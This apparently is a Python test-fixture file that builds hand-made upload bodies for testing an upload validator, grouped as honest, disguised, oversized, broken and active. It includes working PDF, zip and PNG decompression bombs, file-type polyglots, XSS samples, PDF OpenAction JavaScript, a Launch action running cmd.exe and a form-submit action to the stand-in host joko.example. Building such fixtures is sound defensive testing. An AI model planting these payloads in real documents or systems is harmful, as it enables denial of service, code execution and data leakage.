"""Bodies of uploads, made by hand: honest, broken and hostile ones. Imports nothing of the project."""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from PIL import Image


def raw_pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF from numbered objects, with a right table of where they are."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    end = b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + end


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(body), extra, body)


def _catalog(extra: bytes = b"", *more: bytes) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>"
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        *more,
    )


def _saved(document: pikepdf.Pdf, **options) -> bytes:
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def pdf(pages: int = 1, **options) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    return _saved(document, **options)


def pdf_locked(password: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="pemilik", user=password))


def pdf_script_in_an_object_stream() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction = document.make_indirect(action)
    return _saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_attachment() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["faktur.xml"] = b"<faktur/>"
    return _saved(document)


def pdf_bomb() -> bytes:
    """Less than two kilobytes, with an object stream that unfolds, twice packed, to 200 megabytes."""
    once, twice = zlib.compressobj(9), zlib.compressobj(9)
    parts = [once.compress(b"6 0 ")] + [once.compress(b" " * 1_000_000) for _ in range(200)] + [once.flush()]
    packed = b"".join(twice.compress(part) for part in parts) + twice.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
        stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]"),
    ]
    out, table = b"%PDF-1.7\n", struct.pack(">BIH", 0, 0, 65_535)
    for number, body in enumerate(objects, 1):
        table += struct.pack(">BIH", 1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table += struct.pack(">BIH", 1, len(out), 0) + struct.pack(">BIH", 2, 4, 0)
    index = stream(table, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R")
    return out + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (index, len(out))


def zipped(name: str = "isi.txt", body: bytes = b"isi", comment: bytes = b"") -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, body)
        archive.comment = comment
    return out.getvalue()


def picture(kind: str, size=(64, 48), **options) -> bytes:
    out = BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def plain_jpeg(width: int, height: int) -> bytes:
    out = BytesIO()
    Image.new("RGB", (width, height), "teal").save(out, "JPEG")
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A true picture of one colour, one bit per pixel: enormous when unfolded, small as a file."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer, row = zlib.compressobj(9), b"\0" * (1 + (width + 7) // 8)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small picture whose header tells a tale."""
    body = bytearray(picture("JPEG"))
    place = body.index(b"\xff\xc0")
    body[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(body)


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

BODIES = {
    # honest
    "pdf": pdf,
    "pdf_30_pages": lambda: pdf(30),
    "pdf_object_streams": lambda: pdf(3, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "pdf_wrong_table": lambda: pdf(2).replace(b"0000000015 00000 n", b"0000000021 00000 n"),
    "pdf_wrong_start": lambda: pdf(2).replace(b"startxref\n", b"startxref\n9", 1),
    "pdf_blank_lines_after": lambda: pdf() + b"\r\n\n\n",
    "pdf_opens_at_a_page": lambda: _catalog(b"/OpenAction [3 0 R /Fit]"),
    "pdf_link": lambda: _catalog(b"/X 4 0 R", b"<< /S /URI /URI (https://mpp.contoh.id/) >>"),
    "jpeg": lambda: picture("JPEG"),
    "jpeg_progressive": lambda: picture("JPEG", progressive=True),
    "jpeg_30_megapixels": lambda: plain_jpeg(6000, 5000),
    "jpeg_moving": lambda: picture("JPEG") + b"\0\0\0\x18ftypmp42" + b"\0" * 400,
    "png": lambda: picture("PNG"),
    "png_39_megapixels": lambda: png_of(6500, 6000),
    # not what it says
    "empty": lambda: b"",
    "html": lambda: HTML,
    "svg": lambda: SVG,
    "gif_script": lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
    "gif_jar": lambda: b"GIF89a" + b"\0" * 20 + zipped("META-INF/MANIFEST.MF"),
    "heic": lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200,
    "webp": lambda: picture("WEBP"),
    "zip": zipped,
    "docx": lambda: zipped("word/document.xml"),
    "zip_bomb": lambda: zipped("isi.txt", b"\0" * 30_000_000),
    "rar": lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 100,
    "seven_zip": lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "text": lambda: b"Halo",
    "pdf_at_byte_900": lambda: HTML + b" " * (900 - len(HTML)) + pdf(),
    "pdf_then_html": lambda: pdf() + HTML,
    "pdf_then_zip": lambda: pdf() + zipped(),
    "pdf_then_zip_that_ends_well": lambda: pdf() + zipped(comment=b"\n%%EOF"),
    "pdf_cut": lambda: pdf(20)[:-400],
    # too much
    "png_20000": lambda: png_of(20_000, 20_000),
    "png_50_megapixels": lambda: png_of(7_100, 7_100),
    "png_12000": lambda: png_of(12_000, 12_000),
    "jpeg_65535": lambda: jpeg_claiming(65_535, 65_535),
    "pdf_bomb": pdf_bomb,
    "pdf_31_pages": lambda: pdf(31),
    "pdf_10000_pages": lambda: pdf(10_000, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    # broken
    "jpeg_cut": lambda: picture("JPEG", (400, 300))[:-3000],
    "jpeg_head_only": lambda: b"\xff\xd8\xff\xe0" + b"\0" * 50,
    "png_cut": lambda: picture("PNG")[:-60],
    "png_wrong_sum": lambda: picture("PNG").replace(b"IDAT", b"IDaT", 1),
    "pdf_nothing_inside": lambda: b"%PDF-1.7\nbukan apa-apa\n%%EOF\n",
    "pdf_no_page": lambda: pdf(0),
    "pdf_pages_in_a_circle": lambda: raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    ),
    "pdf_table_in_a_circle": lambda: pdf().replace(b"startxref", b"/Prev 9 startxref", 1),
    # active
    "pdf_locked": lambda: pdf_locked("rahasia"),
    "pdf_locked_without_password": lambda: pdf_locked(""),
    "pdf_script_at_opening": lambda: _catalog(b"/OpenAction 4 0 R", SCRIPT),
    "pdf_script_inside": lambda: _catalog(b"/OpenAction << /S /GoTo /Next [[ << /S /JavaScript >> ]] >>"),
    "pdf_script_escaped": lambda: _catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
    "pdf_script_in_names": lambda: _catalog(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", SCRIPT),
    "pdf_script_in_an_object_stream": pdf_script_in_an_object_stream,
    "pdf_starts_a_program": lambda: _catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf_sends_a_form": lambda: _catalog(b"/AA << /O << /S /SubmitForm /F (https://joko.example/) >> >>"),
    "pdf_attachment": pdf_attachment,
}
